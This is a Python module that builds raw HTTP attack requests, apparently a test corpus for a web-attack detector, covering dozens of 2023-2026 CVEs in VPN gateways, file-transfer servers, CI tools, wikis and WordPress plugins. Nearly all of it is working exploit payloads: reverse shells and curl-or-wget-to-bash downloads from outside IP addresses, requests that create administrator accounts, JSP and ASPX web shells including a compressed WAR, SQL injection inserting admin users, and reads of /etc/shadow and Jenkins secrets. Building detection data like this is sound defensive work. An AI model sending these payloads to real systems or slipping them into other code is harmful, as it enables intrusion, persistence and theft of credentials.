"""Blind attack batch N: real 2023-2026 CVE exploitation and mass-exploitation bot traffic against products."""
from __future__ import annotations

import base64
import struct
import zlib


def _raw(line: str, host: str, headers: tuple[str, ...] = (), body: str | None = None) -> str:
    """Build a raw HTTP/1.1 request with CRLF line ends; adds Content-Length for bodies unless framed already."""
    hs = [line, "Host: " + host]
    hs.extend(headers)
    if body is not None and not any(h.lower().startswith(("content-length:", "transfer-encoding:")) for h in headers):
        hs.append("Content-Length: %d" % len(body.encode("utf-8", "surrogateescape")))
    return "\r\n".join(hs) + "\r\n\r\n" + (body or "")


def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def _jenkins_cli(*args: str) -> str:
    """Jenkins CLI-over-HTTP upload frames: ARG ops, ENCODING, LOCALE, START (CVE-2024-23897 expandAtFiles)."""
    out = b""
    for a in args:
        d = struct.pack(">H", len(a)) + a.encode()
        out += struct.pack(">I", len(d)) + b"\x00" + d
    enc = struct.pack(">H", 5) + b"UTF-8"
    out += struct.pack(">I", len(enc)) + b"\x02" + enc
    loc = struct.pack(">H", 5) + b"en_US"
    out += struct.pack(">I", len(loc)) + b"\x01" + loc
    out += struct.pack(">I", 0) + b"\x03"
    return out.decode("utf-8", "surrogateescape")


def _ajp_str(s: str) -> bytes:
    return struct.pack(">H", len(s)) + s.encode() + b"\x00"


def _f5_ajp_smuggle() -> str:
    """CVE-2023-46747: AJP FORWARD_REQUEST smuggled in a chunked POST to /tmui/login.jsp, creating an admin via tmui."""
    form = ("_timenow=a&Common_00=a&handler=%2Ftmui%2Fsystem%2Fuser%2Fcreate&_form_holder_opener_=&"
            "systemuser-hidden=%5B%5B%22Administrator%22%2C%22%5BAll%5D%22%5D%5D&name=f5pwn&"
            "newpassword=Pwn3d1234&confirmpassword=Pwn3d1234")
    pkt = b"\x02\x04" + _ajp_str("HTTP/1.1") + _ajp_str("/tmui/Control/form") + _ajp_str("127.0.0.1")
    pkt += _ajp_str("localhost") + _ajp_str("localhost") + struct.pack(">H", 443) + b"\x00" + struct.pack(">H", 3)
    pkt += b"\xa0\x0b" + _ajp_str("localhost")
    pkt += b"\xa0\x07" + _ajp_str("application/x-www-form-urlencoded")
    pkt += b"\xa0\x08" + _ajp_str(str(len(form)))
    pkt += b"\x0a" + _ajp_str("ajp_local_port") + _ajp_str("1") + b"\x03" + _ajp_str("admin") + b"\xff"
    ajp = b"\x12\x34" + struct.pack(">H", len(pkt)) + pkt
    chunk = ajp + b"\x12\x34" + struct.pack(">H", len(form) + 2) + struct.pack(">H", len(form)) + form.encode()
    body = ("%x\r\n" % len(chunk)).encode() + chunk + b"\r\n0\r\n\r\n"
    head = ("POST /tmui/login.jsp HTTP/1.1\r\nHost: bigip.example.net\r\nUser-Agent: " + "Mozilla/5.0" +
            "\r\nTransfer-Encoding: chunked, chunked\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n")
    return head + body.decode("utf-8", "surrogateescape")


_JAVA_SER = "\udcac\udced\x00\x05sr\x00\x11java.util.HashMap\x05\x07\udcda\udcc1\udcc3\x16`\udcd1\x03\x00\x02F\x00\nloadFactorI\x00\tthresholdxp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x01sr\x00\x0cjava.net.URL\udc96%76\x1a\udcfc\udce4r\x03\x00\x07I\x00\x08hashCodeI\x00\x04portL\x00\tauthorityt\x00\x12Ljava/lang/String;xp\udcff\udcff\udcff\udcff\udcff\udcff\udcff\udcfft\x00\x1ec9x2k1.oast.fun"


def _zwar() -> str:
    """SysAid CVE-2023-47246 body: a zlib-compressed WAR (zip) carrying a JSP web shell."""
    jsp = b'<%@ page import="java.io.*" %><% Process p=Runtime.getRuntime().exec(request.getParameter("c")); %>'
    war = b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + b"\x00" * 16 + struct.pack("<H", 9) + b"\x00\x00" + b"cmd.jsp" + b"  " + jsp
    return zlib.compress(war).decode("utf-8", "surrogateescape")


_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
_PY = "python-requests/2.31.0"
_GO = "Go-http-client/1.1"
_FORM = "Content-Type: application/x-www-form-urlencoded"
_JSON = "Content-Type: application/json"

BLIND_ATTACKS_N = [
    # --- edge devices and VPNs: Ivanti ---
    ("rce", "Ivanti ICS CVE-2023-46805/CVE-2024-21887 keys-status traversal to command injection", "raw", "",
     _raw("GET /api/v1/totp/user-backup-code/../../license/keys-status/%3bpython%20-c%20%27import%20socket%2csubprocess%3bs%3dsocket.socket()%3bs.connect((%2245.61.1.9%22%2c4444))%3bsubprocess.call(%5b%22%2fbin%2fsh%22%2c%22-i%22%5d%2cstdin%3ds.fileno()%2cstdout%3ds.fileno()%2cstderr%3ds.fileno())%27%3b HTTP/1.1",
          "vpn.example.com", ("User-Agent: " + _PY, "Accept: */*"))),
    ("rce", "Ivanti ICS CVE-2024-21887 cloud-server-test-connection command injection", "raw", "",
     _raw("POST /api/v1/totp/user-backup-code/../../system/maintenance/archiving/cloud-server-test-connection HTTP/1.1",
          "vpn.example.com", ("User-Agent: " + _PY, _JSON),
          '{"type":";wget -q -O /tmp/.x http://185.220.101.4/k.sh; sh /tmp/.x;","txtGCPProject":"a","txtGCPSecret":"a","txtGCPPath":"a","txtGCPBucket":"a"}')),
    ("ssrf", "Ivanti ICS CVE-2024-21893 SAML RetrievalMethod SSRF to keys-status injection", "raw", "",
     _raw("POST /dana-ws/saml20.ws HTTP/1.1", "vpn.example.com", ("User-Agent: " + _PY, "Content-Type: text/xml"),
          '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
          '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
          '<ds:SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#rsa-sha1"/></ds:SignedInfo><ds:SignatureValue>qwerty</ds:SignatureValue>'
          '<ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:RetrievalMethod URI="http://127.0.0.1:8090/api/v1/license/keys-status/%3bcurl%20-s%20http%3a%2f%2f45.61.1.9%2fi%7cbash%3b"/>'
          '<ds:X509Data/></ds:KeyInfo><ds:Object></ds:Object></ds:Signature></soap:Body></soap:Envelope>')),
    ("xxe", "Ivanti ICS CVE-2024-22024 XXE in base64 SAMLRequest", "form", "SAMLRequest",
     _b64('<?xml version="1.0" ?><!DOCTYPE root [<!ENTITY % xxe SYSTEM "http://cn7qpa2.oast.live/x.dtd"> %xxe;]><r></r>')),
    ("java", "Ivanti EPMM CVE-2025-4427/4428 EL injection in featureusage format", "path", "",
     "/mifs/rs/api/v2/featureusage?format=${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('curl http://45.61.1.9/e.sh -o /tmp/e.sh')}"),
    ("java", "Ivanti EPMM CVE-2025-4427 EL probe with URL-encoded bean lookup", "raw", "",
     _raw("GET /mifs/rs/api/v2/featureusage_history?adminDeviceSpaceId=131&format=%24%7b%22%22.getClass().forName(%22java.lang.Runtime%22).getMethods()%5b6%5d.invoke(null).exec(%22id%22)%7d HTTP/1.1",
          "mdm.example.com", ("User-Agent: " + _GO, "Accept: application/json"))),
    ("scanner", "Ivanti EPMM CVE-2023-35078 unauthenticated users API probe", "path", "",
     "/mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1"),
    ("protocol", "Ivanti ICS CVE-2025-22457 X-Forwarded-For stack overflow", "raw", "",
     _raw("GET /dana-na/auth/url_default/welcome.cgi HTTP/1.1", "vpn.example.com",
          ("User-Agent: Mozilla/5.0", "X-Forwarded-For: " + "1" * 2048 + "." + "9" * 1024))),

    # --- edge devices and VPNs: Fortinet ---
    ("protocol", "FortiOS SSL-VPN CVE-2024-21762 out-of-bounds chunked length", "raw", "",
     "POST /remote/VULNCHECK HTTP/1.1\r\nHost: fgt.example.com\r\nTransfer-Encoding: chunked\r\n\r\n"
     "0000000000000000FF\r\n\r\n"),
    ("sqli", "FortiWeb CVE-2025-25257 Fabric Connector bearer-token SQLi auth bypass", "raw", "",
     _raw("GET /api/fabric/device/status HTTP/1.1", "fortiweb.example.com",
          ("User-Agent: " + _PY, "Authorization: Bearer AAAAAA'or'1'='1"))),
    ("sqli", "FortiWeb CVE-2025-25257 SQLi INTO OUTFILE writing a .pth file", "raw", "",
     _raw("GET /api/fabric/device/status HTTP/1.1", "fortiweb.example.com",
          ("User-Agent: " + _PY,
           "Authorization: Bearer ';SELECT/**/0x696d706f7274206f733b6f732e73797374656d28276964203e202f746d702f7727293b/**/INTO/**/OUTFILE/**/'../../lib/python3.10/site-packages/x.pth'#"))),
    ("ptrav", "FortiWeb CVE-2025-64446 API path traversal to fwbcgi creating an admin", "raw", "",
     _raw("POST /api/v2.0/cmdb/system/admin%3F/../../../../../cgi-bin/fwbcgi HTTP/1.1", "fortiweb.example.com",
          ("User-Agent: " + _PY, _JSON,
           "CGIINFO: " + _b64('{"username":"admin","profname":"prof_admin","vdom":"root","loginname":"admin"}')),
          '{"data":{"q_type":1,"name":"svc_bkp","access-profile":"prof_admin","access-profile_val":"0",'
          '"trusthostv4":"0.0.0.0/0","trusthostv6":"::/0","type":"local-user","password":"P@ssw0rd!23","sz_password":-1}}')),
    ("scanner", "FortiOS CVE-2024-55591 jsconsole websocket auth bypass probe", "raw", "",
     _raw("GET /ws/cli/open?cols=162&rows=100&local_access_token=1 HTTP/1.1", "fgt.example.com",
          ("User-Agent: " + _PY, "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13",
           "Sec-WebSocket-Key: thFz/fKwzu5wDEy0XO3fcw=="))),

    # --- edge devices and VPNs: Citrix, Palo Alto, Cisco, F5, others ---
    ("protocol", "Citrix NetScaler CVE-2023-4966 CitrixBleed oversized Host header", "raw", "",
     _raw("GET /oauth/idp/.well-known/openid-configuration HTTP/1.1", "a" * 24812, ("User-Agent: " + _PY, "Accept: */*"))),
    ("protocol", "Citrix NetScaler CVE-2025-5777 CitrixBleed 2 login parameter without value", "raw", "",
     _raw("POST /p/u/doAuthentication.do HTTP/1.1", "gw.example.com",
          ("User-Agent: " + _PY, _FORM, "Connection: keep-alive"), "login")),
    ("xss", "Citrix ADC CVE-2023-24488 reflected XSS via CRLF in post_logout_redirect_uri", "path", "",
     "/oauth/idp/logout?post_logout_redirect_uri=%0d%0a%0d%0a<script>alert(document.domain)</script>"),
    ("scanner", "Citrix ADC CVE-2023-3519 formssso overflow probe", "path", "",
     "/gwtest/formssso?event=start&target=" + "A" * 500),
    ("rce", "Palo Alto GlobalProtect CVE-2024-3400 SESSID traversal with command injection", "raw", "",
     _raw("POST /ssl-vpn/hipreport.esp HTTP/1.1", "gp.example.com",
          ("User-Agent: " + _PY, _FORM,
           "Cookie: SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/y`curl${IFS}http://172.233.228.93/patch|bash`"),
          "")),
    ("ptrav", "Palo Alto GlobalProtect CVE-2024-3400 arbitrary file create probe", "cookie", "SESSID",
     "/../../../var/appweb/sslvpndocs/global-protect/portal/images/watchtowr.txt"),
    ("rce", "PAN-OS CVE-2024-0012/9474 auth bypass header plus createRemoteAppwebSession injection", "raw", "",
     _raw("POST /php/utils/createRemoteAppwebSession.php/watchTowr.js.map HTTP/1.1", "mgmt.example.com",
          ("User-Agent: " + _PY, "X-PAN-AUTHCHECK: off", _FORM),
          "user=`echo $(uname -a) > /var/appweb/htdocs/unauth/watchTowr.php`&userRole=superuser&remoteHost=&vsys=vsys1")),
    ("ptrav", "PAN-OS CVE-2025-0108 double-encoded traversal from /unauth", "raw", "",
     _raw("GET /unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css HTTP/1.1", "mgmt.example.com", ("User-Agent: " + _PY,))),
    ("rce", "Cisco IOS XE CVE-2023-20198 WSMA double-encoded path running CLI", "raw", "",
     _raw("POST /%2577ebui_wsma_HTTP HTTP/1.1", "router.example.com", ("User-Agent: " + _PY, "Content-Type: text/xml"),
          '<?xml version="1.0"?><SOAP:Envelope xmlns:SOAP="http://schemas.xmlsoap.org/soap/envelope/" '
          'xmlns:SOAP-ENC="http://schemas.xmlsoap.org/soap/encoding/"><SOAP:Header><wsse:Security xmlns:wsse="http://schemas.xmlsoap.org/ws/2002/04/secext">'
          '<wsse:UsernameToken SOAP:mustUnderstand="false"><wsse:Username>admin</wsse:Username><wsse:Password>*****</wsse:Password></wsse:UsernameToken>'
          '</wsse:Security></SOAP:Header><SOAP:Body><request correlator="exec1" xmlns="urn:cisco:wsma-config"><configApply details="all" action-on-fail="rollback">'
          '<config-data><cli-config-data-block>username cisco_tac_admin privilege 15 secret 0 Hx9q2!zz</cli-config-data-block></config-data>'
          '</configApply></request></SOAP:Body></SOAP:Envelope>')),
    ("scanner", "Cisco IOS XE BadCandy implant check via logon_hash", "raw", "",
     _raw("POST /webui/logoutconfirm.html?logon_hash=1 HTTP/1.1", "router.example.com", ("User-Agent: " + _PY, _FORM), "")),
    ("xss", "Cisco ASA CVE-2020-3580 SAML ACS reflected XSS still sprayed", "raw", "",
     _raw("POST /+CSCOE+/saml/sp/acs?tgname=a HTTP/1.1", "asa.example.com", ("User-Agent: " + _UA, _FORM),
          'SAMLResponse=%22%3E%3Csvg/onload=alert(document.domain)%3E')),
    ("protocol", "F5 BIG-IP CVE-2023-46747 AJP request smuggling via chunked tmui request", "raw", "", _f5_ajp_smuggle()),
    ("ptrav", "Check Point CVE-2024-24919 MyCRL arbitrary file read", "raw", "",
     _raw("POST /clients/MyCRL HTTP/1.1", "cpgw.example.com", ("User-Agent: " + _GO, "Content-Type: text/plain"),
          "aCSHELL/../../../../../../../etc/shadow")),
    ("rce", "Kemp LoadMaster CVE-2024-1212 command injection in Basic auth username", "raw", "",
     _raw("GET /access/set?param=enableapi&value=1 HTTP/1.1", "lb.example.com",
          ("User-Agent: " + _PY, "Authorization: Basic " + _b64("';curl http://45.61.1.9/lb.sh|sh;echo ':x")))),
    ("protocol", "SonicWall SSLVPN CVE-2024-53704 null-byte swap cookie session hijack", "raw", "",
     _raw("GET /cgi-bin/sslvpnclient?launchplatform= HTTP/1.1", "sslvpn.example.com",
          ("User-Agent: " + _PY, "Cookie: swap=" + _b64("\x00" * 32)))),
    ("php", "Juniper J-Web CVE-2023-36845 PHPRC environment injection with stdin ini", "raw", "",
     _raw("POST /?PHPRC=/dev/fd/0 HTTP/1.1", "srx.example.com", ("User-Agent: " + _PY, _FORM),
          'allow_url_include=1\nauto_prepend_file="data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg=="')),
    ("php", "Juniper J-Web CVE-2023-36846 unauth PHP upload via webauth_operation", "raw", "",
     _raw("POST /webauth_operation.php HTTP/1.1", "srx.example.com", ("User-Agent: " + _PY, _FORM),
          'rs=do_upload&rsargs[0]=[{"fileData":"data:text/html;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==","fileName":"x.php","csize":27}]')),
    ("ptrav", "Mitel MiCollab CVE-2024-41713 ..;/ traversal to ReconcileWizard", "raw", "",
     _raw("POST /npm-pwg/..;/ReconcileWizard/reconcilewizard/sc/IDACall?isc_rpc=1&isc_v=&isc_tnum=2 HTTP/1.1",
          "micollab.example.com", ("User-Agent: " + _PY, _FORM),
          '_transaction=<transaction xmlns:xsi="http://www.w3.org/2000/10/XMLSchema-instance" xsi:type="xsd:Object">'
          '<operations xsi:type="xsd:List"><elem xsi:type="xsd:Object"><reportName>../../../../../../../etc/passwd</reportName></elem></operations></transaction>')),

    # --- file transfer: MOVEit, CrushFTP, GoAnywhere, Cleo, others ---
    ("sqli", "MOVEit Transfer CVE-2023-34362 session variable header smuggling with SQL in MyPkgSelfProvisionedRecips", "raw", "",
     _raw("POST /moveitisapi/moveitisapi.dll?action=m2 HTTP/1.1", "mft.example.com",
          ("User-Agent: " + _PY, _FORM, "X-siLock-Transaction: folder_add_by_path"),
          "xx-silock-transaction=session_setvars&X-siLock-SessVar0=MyUsername: Guest&"
          "X-siLock-SessVar1=MyPkgAccessCode: 123&X-siLock-SessVar2=MyGuestEmailAddr: a@b.com&"
          "X-siLock-SessVar3=MyPkgSelfProvisionedRecips: ','','a@b.com'); INSERT INTO activesessions "
          "(SessionID) values ('abcd1234efgh5678');UPDATE activesessions SET Username=(select Username from users "
          "order by permission desc limit 1) WHERE SessionID='abcd1234efgh5678';-- asdf")),
    ("sqli", "MOVEit Transfer CVE-2023-34362 guestaccess secmsgpost triggering injected recips", "raw", "",
     _raw("POST /guestaccess.aspx HTTP/1.1", "mft.example.com",
          ("User-Agent: " + _PY, _FORM, "Cookie: ASP.NET_SessionId=x1y2z3; siLockCSRFToken=abc"),
          "transaction=secmsgpost&Arg01=email_subject&Arg04=email_body&Arg06=123&Arg05=send&Arg08=a%40b.com&Arg09=attachment_list&"
          "Arg10=')%3bINSERT+INTO+activesessions+(SessionID)+values+('abcd1234')--+")),
    ("scanner", "MOVEit LEMURLOOT human2.aspx web shell access check", "raw", "",
     _raw("GET /human2.aspx HTTP/1.1", "mft.example.com",
          ("User-Agent: " + _UA, "X-siLock-Comment: comment", "X-siLock-Step1: -1"))),
    ("ssti", "CrushFTP CVE-2024-4040 INCLUDE tag server-side template injection reading sessions", "raw", "",
     _raw("POST /WebInterface/function/ HTTP/1.1", "ftp.example.com",
          ("User-Agent: " + _PY, _FORM, "Cookie: currentAuth=31If; CrushAuth=1744144130787_5SPqhPXnqTaNfs5aPdTS7b3I1V31If"),
          "command=exists&paths=<INCLUDE>users/MainUsers/groups.XML</INCLUDE>&c2f=31If")),
    ("ptrav", "CrushFTP CVE-2024-4040 zip names escaping VFS to sessions.obj", "form", "names",
     "/../../../../../../var/opt/CrushFTP10/sessions.obj"),
    ("scanner", "CrushFTP CVE-2025-31161 AWS4 credential auth bypass as crushadmin", "raw", "",
     _raw("GET /WebInterface/function/?command=getUserList&serverGroup=MainUsers&c2f=1111 HTTP/1.1", "ftp.example.com",
          ("User-Agent: " + _PY, "Cookie: CrushAuth=1743113839553_vD96EZ70ONL6xAd1DAJhXMZYMn1111; currentAuth=1111",
           "Authorization: AWS4-HMAC-SHA256 Credential=crushadmin/"))),
    ("ptrav", "GoAnywhere MFT CVE-2024-0204 ..;/ traversal to InitialAccountSetup", "raw", "",
     _raw("POST /goanywhere/images/..;/wizard/InitialAccountSetup.xhtml HTTP/1.1", "mft.example.com",
          ("User-Agent: " + _PY, _FORM),
          "j_id_u%3Acreds%3AuserName=pwnadmin&j_id_u%3Acreds%3Aj_id_y=Passw0rd123!&j_id_u%3Acreds%3Aj_id_10=Passw0rd123!&"
          "j_id_u_SUBMIT=1&javax.faces.ViewState=stateless")),
    ("ptrav", "Cleo Harmony CVE-2024-50623 VLSync header traversal file read", "raw", "",
     _raw("GET /Synchronization HTTP/1.1", "cleo.example.com",
          ("User-Agent: " + _PY, "Retrieve: l=Ab1234-RQ0258;n=VLTrader;v=5.7.0.0;a=1337;po=1337;s=True;b=False;pp=myEncryptedPassphrase",
           "VLSync: Retrieve;l=Ab1234-RQ0258;n=VLTrader;v=5.7.0.0;a=1337;po=1337;s=True;b=False;pp=myEncryptedPassphrase;path=temp/../../../../../../windows/win.ini"))),
    ("ptrav", "SolarWinds Serv-U CVE-2024-28995 InternalDir traversal", "raw", "",
     _raw("GET /?InternalDir=/../../../../windows&InternalFile=win.ini HTTP/1.1", "servu.example.com",
          ("User-Agent: " + _UA,))),
    ("ptrav", "SolarWinds Serv-U CVE-2024-28995 backslash variant against ProgramData", "path", "",
     "/?InternalDir=\\..\\..\\..\\..\\ProgramData\\RhinoSoft\\Serv-U\\&InternalFile=Serv-U-StartupLog.txt"),
    ("ptrav", "Citrix ShareFile CVE-2023-24489 upload.aspx filename traversal", "raw", "",
     _raw("POST /documentum/upload.aspx?parentid=a4d6a8f1-1234-4e2b-9fd1-0af0a0000000&raw=1&unzip=on&uploadid=x&filename=../../../../cifs/docs.aspx HTTP/1.1",
          "files.example.com", ("User-Agent: " + _PY, "Content-Type: application/octet-stream"),
          '<%@ Page Language="C#" %><% Response.Write(System.Diagnostics.Process.Start("cmd.exe","/c whoami").StandardOutput.ReadToEnd()); %>')),
    ("generic", "Wing FTP CVE-2025-47812 NUL byte Lua injection in login username", "raw", "",
     _raw("POST /loginok.html HTTP/1.1", "wftp.example.com", ("User-Agent: " + _PY, _FORM),
          "username=anonymous%00]]%0dlocal+h+%3d+io.popen(\"id\")%0dlocal+r+%3d+h%3aread(\"*a\")%0dh%3aclose()%0dprint(r)%0d--&password=")),
    ("ptrav", "SimpleHelp CVE-2024-57727 toolbox-resource traversal to serverconfig.xml", "raw", "",
     _raw("GET /toolbox-resource/../resource1/../../configuration/serverconfig.xml HTTP/1.1", "support.example.com",
          ("User-Agent: " + _GO,))),
    ("ssrf", "Commvault CVE-2025-34028 deployWebpackage fetching attacker package with traversal", "raw", "",
     _raw("POST /commandcenter/deployWebpackage.do HTTP/1.1", "cv.example.com", ("User-Agent: " + _PY, _FORM),
          "commcellName=c3kq8a.oast.pro&servicePack=../../Reports/MetricsUpload/shell/.&version=watchTowr")),
    ("ptrav", "SysAid CVE-2023-47246 userentry accountId traversal into webapps", "raw", "",
     _raw("POST /userentry?accountId=/../../../tomcat/webapps/&symbolName=LDAP_REFRESH_&base64UserName=YWRtaW4= HTTP/1.1",
          "helpdesk.example.com", ("User-Agent: " + _PY, "Content-Type: application/octet-stream"),
          _zwar())),

    # --- collaboration: Confluence, Jira, GitLab, Jenkins, TeamCity, XWiki ---
    ("java", "Confluence CVE-2023-22515 setupComplete setter via bootstrapStatusProvider", "path", "",
     "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false"),
    ("java", "Confluence CVE-2023-22527 text-inline.vm OGNL via velocity context", "raw", "",
     _raw("POST /template/aui/text-inline.vm HTTP/1.1", "wiki.example.com", ("User-Agent: " + _PY, _FORM),
          "label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(\\u0027ognl\\u0027).findValue(#parameters.x,{})%2b\\u0027"
          "&x=@org.apache.struts2.ServletActionContext@getResponse().setHeader('X-Cmd-Response',(new freemarker.template.utility.Execute()).exec({\"id\"}))")),
    ("java", "Confluence CVE-2022-26134 OGNL in URI still mass-sprayed", "path", "",
     "/${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"whoami\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}/"),
    ("scanner", "Confluence CVE-2023-22518 setup-restore unauth restore probe", "raw", "",
     _raw("POST /json/setup-restore.action?synchrony=true HTTP/1.1", "wiki.example.com",
          ("User-Agent: " + _PY, "X-Atlassian-Token: no-check",
           "Content-Type: multipart/form-data; boundary=----WebKitFormBoundaryT3yekvo0rGaL9QR7"),
          "------WebKitFormBoundaryT3yekvo0rGaL9QR7\r\nContent-Disposition: form-data; name=\"buildIndex\"\r\n\r\nfalse\r\n"
          "------WebKitFormBoundaryT3yekvo0rGaL9QR7\r\nContent-Disposition: form-data; name=\"file\"; filename=\"xmlexport-20231031.zip\"\r\n"
          "Content-Type: application/zip\r\n\r\nPK\x03\x04\r\n------WebKitFormBoundaryT3yekvo0rGaL9QR7\r\n"
          "Content-Disposition: form-data; name=\"edit\"\r\n\r\nUpload and import\r\n------WebKitFormBoundaryT3yekvo0rGaL9QR7--\r\n")),
    ("ssrf", "Jira CVE-2019-8451 gadgets makeRequest SSRF to cloud metadata", "path", "",
     "/plugins/servlet/gadgets/makeRequest?url=https://jira.example.com:443@169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ptrav", "GitLab CVE-2023-2825 uploads path traversal through nested groups", "raw", "",
     _raw("GET /g1/g2/g3/g4/g5/g6/g7/g8/g9/g10/g11/project1/uploads/4e02c376ac758e162ec674399741e38d//..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd HTTP/1.1",
          "gitlab.example.com", ("User-Agent: " + _PY,))),
    ("ptrav", "Jenkins CVE-2024-23897 CLI expandAtFiles arbitrary file read", "raw", "",
     _raw("POST /cli?remoting=false HTTP/1.1", "jenkins.example.com",
          ("User-Agent: " + _PY, "Session: 5a3e2c0e-0b6f-4b59-9a6e-0e1f8f0d2a11", "Side: upload",
           "Content-Type: application/octet-stream"),
          _jenkins_cli("connect-node", "@/var/jenkins_home/secrets/master.key"))),
    ("java", "Jenkins unauthenticated script console Groovy execution", "form", "script",
     'def p = ["bash","-c","curl -s http://45.61.1.9/j.sh|bash"].execute(); println p.text'),
    ("rce", "TeamCity CVE-2023-42793 debug processes endpoint with stolen token", "raw", "",
     _raw("POST /app/rest/debug/processes?exePath=/bin/sh&params=-c&params=curl%20http%3A%2F%2F45.61.1.9%2Ftc.sh%7Csh HTTP/1.1",
          "ci.example.com", ("User-Agent: " + _PY,
                             "Authorization: Bearer eyJ0eXAiOiAiVENWMiJ9.RXBXNEhsSl9fOTV4bE1ZX1FBVk5MOUlQVDNR.ZDRkMmZkN2YtYjNlZS00NjkyLWI4ODUtODZkNzE4NTIzNmEx"), "")),
    ("scanner", "TeamCity CVE-2023-42793 RPC2 token creation auth bypass", "raw", "",
     _raw("POST /app/rest/users/id:1/tokens/RPC2 HTTP/1.1", "ci.example.com", ("User-Agent: " + _PY,), "")),
    ("protocol", "TeamCity CVE-2024-27198 ;.jsp alternate path auth bypass creating admin", "raw", "",
     _raw("POST /hax?jsp=/app/rest/users;.jsp HTTP/1.1", "ci.example.com", ("User-Agent: " + _PY, _JSON),
          '{"username":"h4x0r","password":"Passw0rd!","email":"h4x0r@x.com","roles":{"role":[{"roleId":"SYSTEM_ADMIN","scope":"g"}]}}')),
    ("ptrav", "TeamCity CVE-2024-27199 /res/../ traversal to diagnostic page", "raw", "",
     _raw("GET /res/../admin/diagnostic.jsp HTTP/1.1", "ci.example.com", ("User-Agent: " + _PY,))),
    ("ssti", "XWiki CVE-2025-24893 SolrSearch rss Groovy macro injection", "path", "",
     "/xwiki/bin/get/Main/SolrSearch?media=rss&text=}}}{{async async=false}}{{groovy}}println(\"cat /etc/passwd\".execute().text){{/groovy}}{{/async}}"),
    ("ssti", "XWiki CVE-2025-24893 encoded variant dropping a miner", "raw", "",
     _raw("GET /bin/get/Main/SolrSearch?media=rss&text=%7d%7d%7d%7b%7basync%20async%3dfalse%7d%7d%7b%7bgroovy%7d%7d%22wget%20-O%20/tmp/.k%20http://193.32.208.24/k%22.execute()%7b%7b/groovy%7d%7d%7b%7b/async%7d%7d HTTP/1.1",
          "xwiki.example.com", ("User-Agent: " + _GO,))),
    ("ptrav", "Openfire CVE-2023-32315 %u002e setup traversal to admin log", "raw", "",
     _raw("GET /setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp HTTP/1.1", "chat.example.com", ("User-Agent: " + _PY,))),
    ("java", "PaperCut CVE-2023-27350 printer script injection after SetupCompleted bypass", "raw", "",
     _raw("POST /app HTTP/1.1", "print.example.com", ("User-Agent: " + _PY, _FORM, "Cookie: JSESSIONID=node01abcdef.node0"),
          "service=direct%2F1%2FPrinterDetails%2F%24PrinterDetailsScript.%24Form&sp=S0&Form0=printerId%2CenablePrintScript%2CscriptBody%2C%24Submit%2C%24Submit%240%2C%24Submit%241"
          "&printerId=l1001&enablePrintScript=on&scriptBody=function+printJobHook%28inputs%2C+actions%29+%7B%7D%0D%0A"
          "java.lang.Runtime.getRuntime%28%29.exec%28%27cmd.exe+%2Fc+powershell+-enc+SQBFAFgA%27%29%3B&%24Submit%241=Apply")),
    ("scanner", "PaperCut CVE-2023-27350 SetupCompleted authentication bypass", "path", "", "/app?service=page/SetupCompleted"),

    # --- CMS and plugins: WordPress ---
    ("php", "WordPress Backup Migration CVE-2023-6553 Content-Dir php://filter chain RCE", "raw", "",
     _raw("POST /wp-content/plugins/backup-backup/includes/backup-heart.php HTTP/1.1", "blog.example.com",
          ("User-Agent: " + _PY, _FORM,
           "Content-Dir: php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
           "convert.iconv.CP1162.UTF32|convert.iconv.L4.T.61|convert.base64-decode|convert.base64-encode|"
           "convert.iconv.UTF8.UTF7|convert.iconv.SE2.UTF-16|convert.iconv.CSIBM1161.IBM-932|convert.base64-decode/resource=php://temp"),
          "")),
    ("sqli", "WP-Automatic CVE-2024-27956 csv.php raw SQL inserting an admin user", "raw", "",
     _raw("POST /wp-content/plugins/wp-automatic/inc/csv.php HTTP/1.1", "blog.example.com",
          ("User-Agent: " + _UA, _FORM),
          "q=INSERT+INTO+wp_users+(user_login%2C+user_pass%2C+user_nicename%2C+user_email%2C+user_url%2C+user_registered%2C+user_status%2C+display_name)+"
          "VALUES+('eviladmin'%2C+'%24P%24BASbMqW0nlZRux%2F2IhCw7AdvoNI4VT0'%2C+'eviladmin'%2C+'e%40x.com'%2C+''%2C+'2024-03-20+00%3A00%3A00'%2C+0%2C+'eviladmin')"
          "&auth=%00&integ=5c2a3c47e8bf1b65e1c7ecad4b1b1bd4")),
    ("php", "Bricks Builder CVE-2024-25600 render_element queryEditor PHP eval", "json", "",
     '{"postId":"1","nonce":"a1b2c3d4e5","element":{"name":"container","settings":{"hasLoop":"true","query":'
     '{"useQueryEditor":true,"queryEditor":"ob_start();echo `id`;$o=ob_get_contents();ob_end_clean();throw new Exception($o);","objectType":"post"}}}}'),
